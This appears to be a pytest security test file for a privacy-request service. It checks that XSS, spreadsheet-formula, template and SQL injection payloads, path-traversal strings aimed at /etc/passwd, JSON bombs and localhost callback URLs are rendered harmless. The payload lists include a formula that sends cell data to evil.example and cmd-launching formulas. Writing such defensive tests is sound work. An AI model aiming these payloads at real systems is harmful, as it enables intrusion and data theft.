"""Attacks by what is said: scripts, formulas, templates, paths, bombs and addresses of others' machines."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import socket
import threading
from html.parser import HTMLParser

import pytest

from privacy.dsar.protocols.callbacks import Telling
from privacy.dsar.protocols.drp_routes import DRP
from tests.dsar.attacks.agents import a_message, an_agent
from tests.dsar.attacks.scene import ANNA, EVE, Scene, unzipped

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)//<svg/onload=alert(1)>",
    "</title></style></textarea><iframe srcdoc='<script>alert(1)</script>'>",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "{{7*7}}",
    "{{config.__class__.__init__.__globals__}}",
    "${7*7}",
    "{0.__class__.__mro__}",
    "%(password)s %s %n",
    "__CODE__ __CONTACT__",
    "<%= 7*7 %>",
    "#{7*7}",
    "[[${7*7}]]",
    "\u202egnp.exe",
    "'; DROP TABLE data_subject; --",
    "file:///etc/passwd",
    "<font color=\"[[[getattr(pow,Word('__globals__'))]]]\">",
)
#: Forty spellings of "up and out".
UP = [
    *("../", "..\\", "..%2f", "..%5c", "%2e%2e/", "%2e%2e%2f", "%2e%2e%5c", "..%252f", "..%255c", "%252e%252e%252f"),
    *("..%c0%af", "..%c1%9c", "%c0%ae%c0%ae/", "..%e0%80%af", "..%f0%80%80%af", "....//", "....\\\\", "..;/"),
    *("..%00/", "..%0d/", "..%0a/", "..%09/", "..%ff/", "%u002e%u002e/", "..%u2215", "..%u2216", ".%2e/", "%2e./"),
    *("/..//", "//..//", "\\..\\", "/./../", "..//", "..///", "..%2f%2f", "%uff0e%uff0e/", "..%ef%bc%8f"),
    *("..%e2%88%95", "~/", "file:///"),
]
#: Spellings of this machine, as an address of a callback; `{port}` is where somebody listens.
INTERNAL = (
    *("https://127.0.0.1:{port}/", "https://localhost:{port}/", "https://2130706433:{port}/", "https://0:{port}/"),
    *("https://0x7f000001:{port}/", "https://017700000001:{port}/", "https://127.1:{port}/", "https://[::1]:{port}/"),
    *("https://[::ffff:127.0.0.1]:{port}/", "https://shop@127.0.0.1:{port}/", "https://[64:ff9b::7f00:1]:{port}/"),
    *("http://127.0.0.1:{port}/", "gopher://127.0.0.1:{port}/", "file:///etc/passwd", "https://127.0.0.1.:{port}/"),
)


class Page(HTMLParser):
    """What a browser would run of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.runs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Elements that run or fetch something, handlers, and addresses that are no links."""
        if tag in {"script", "iframe", "img", "svg", "object", "embed", "base", "form"}:
            self.runs.append(tag)
        self.runs += [name for name, _ in attrs if name.startswith("on")]
        self.runs += [value for _, value in attrs if value and value.lower().lstrip().startswith("javascript:")]


def test_what_people_write_stays_what_they_wrote(scene: Scene) -> None:
    words = "\n".join(PAYLOADS)
    lines = [one for one in PAYLOADS if one.isprintable()]
    request_id = scene.open("access", EVE, words=words, name=" ".join(lines)[:300], address=lines[:8])
    held = scene.staff.post(f"/requests/{request_id}/open", {})
    assert held.content_type == "application/json"
    assert held.get_json()["matter"]["words"] == words
    scene.identify(request_id)
    scene.step(request_id, "ask-clarification", reason=words)
    [asked] = [one for one in scene.mails(EVE["email"]) if one.template == "letter_clarification"]
    # Nothing is computed, looked up or put in its place.
    assert "<%= 7*7 %>" in asked.text
    assert "__CODE__ __CONTACT__" in asked.text
    assert not re.search(r"\b49\b|class '|root:", asked.text)
    scene.judge()


def test_rows_of_a_system_do_nothing_in_a_package(scene: Scene) -> None:
    rows = [(1000 + number, 8, payload) for number, payload in enumerate(PAYLOADS)]
    scene.shops.put("crm", {"talk": rows})
    scene.before = scene.shops.everything()
    request_id = scene.open("access", EVE)
    scene.identify(request_id)
    assert scene.answered(request_id)["state"] == "answered"
    eve = scene.stranger()
    eve.ask_code(request_id)
    assert eve.enter(request_id, scene.code_in(EVE["email"], request_id) or "")
    files = unzipped(eve.fetch(request_id).get_data())
    scene.heard.clear()
    said = {row["said"] for row in json.loads(files["data/crm/crm.talk.json"])["rows"]}
    assert set(PAYLOADS) <= said
    for name, content in files.items():
        assert ".." not in name
        assert not name.startswith("/")
        if name.endswith(".html"):
            page = Page()
            page.feed(content.decode())
            assert not page.runs, name
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
                assert not [cell for cell in row if _is_formula(cell)], name
    scene.judge()


def test_no_path_leads_out(scene: Scene) -> None:
    request_id = scene.open("access", ANNA)
    stranger = scene.stranger()
    for up in UP:
        for target in ("etc/passwd", "var/keyring"):
            path = up * 6 + target
            for route in (f"/requests/{path}/package", f"/requests/{request_id}/{path}", f"/requests/{path}"):
                answer = stranger.send("GET", route)
                assert answer.status_code in {308, 400, 401, 404, 405}, (route, answer.status_code)
                staffs = scene.staff.get(f"/requests/{request_id}/letters/{path}")
                assert staffs.status_code in {308, 400, 404, 405}, route
                assert b"root:" not in answer.get_data() + staffs.get_data()
    scene.judge()


def test_bombs_do_not_go_off(scene: Scene) -> None:
    request = {"type": "erasure", "intake": "portal", "subject": ANNA}
    deep = b'{"type":' + b"[" * 100_000
    many = json.dumps(request | {"subject": {f"k{number}": "x" for number in range(50_000)}}).encode()
    long = json.dumps(request | {"words": "x" * 3_000_000}).encode()
    for body in (deep, many, long, b"\x1f\x8b" + b"\0" * 1000, b'{"type": NaN}', b'{"type":1,"type":2}'):
        assert scene.portal.post("/requests", body).status_code in {400, 413, 422}
    packed = scene.portal.send("POST", "/requests", b"\x1f\x8b" + b"\0" * 1000, Content_Encoding="gzip")
    assert packed.status_code in {400, 415, 422}
    request_id = scene.open("access", ANNA)
    answer = scene.stranger().send("POST", f"/requests/{request_id}/session", {"code": "9" * 1_000_000})
    assert answer.status_code in {401, 413}
    scene.judge()


def test_no_callback_leads_inside(scene: Scene) -> None:
    agent, business, key = an_agent(scene)
    scene.service.app.extensions[DRP] = business
    with socket.create_server(("127.0.0.1", 0)) as trap:
        trap.settimeout(0.05)
        for number, url in enumerate(INTERNAL):
            callback = url.format(port=trap.getsockname()[1])
            content = json.dumps(a_message(**{"agent-request-id": f"r-{number}", "status_callback": callback})).encode()
            body = base64.b64encode(key.sign(content) + content)
            answer = agent.send("POST", "/drp/v1/data-rights-request", body, Content_Type="text/plain")
            assert answer.status_code in {200, 422}, url
        Telling(None).run(scene.service.app.app_context, threading.Event())
        with pytest.raises(TimeoutError):
            trap.accept()
    scene.judge()


def _is_formula(cell: str) -> bool:
    bare = cell.lstrip(" \u00a0\t\r\n")
    return bare[:1] in {"=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"} and not _is_number(bare)


def _is_number(text: str) -> bool:
    return bool(re.fullmatch(r"[+-]?[0-9]+([.,][0-9]+)?", text))
